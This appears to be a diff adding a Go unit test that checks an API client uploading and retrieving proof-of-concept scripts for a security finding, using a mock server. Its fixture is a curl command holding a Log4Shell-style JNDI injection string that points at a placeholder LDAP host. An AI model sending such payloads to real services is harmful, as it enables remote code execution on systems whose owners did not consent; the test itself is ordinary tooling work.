@@ -0,0 +1,40 @@
+package aiptx
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+)
+
+func TestPoC(t *testing.T) {
+	var stored map[string]interface{}
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/findings/7/poc" {
+			t.Errorf("Unexpected path %s", r.URL.Path)
+		}
+		if r.Method == "PUT" {
+			json.NewDecoder(r.Body).Decode(&stored)
+			stored["finding_id"] = 7
+		}
+		json.NewEncoder(w).Encode(stored)
+	}))
+	defer server.Close()
+	client := NewClient(server.URL)
+
+	script := "curl -s 'https://example.com/api/login?user=${jndi:ldap://x}'"
+	if _, err := client.UploadPoC(7, PoCCurl, script); err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if len(stored) != 3 || stored["language"] != "curl" {
+		t.Errorf("Expected language in request, got %v", stored)
+	}
+
+	poc, err := client.GetPoC(7)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if poc.FindingID != 7 || poc.Language != PoCCurl || poc.Script != script {
+		t.Errorf("Expected stored PoC, got %+v", poc)
+	}
+}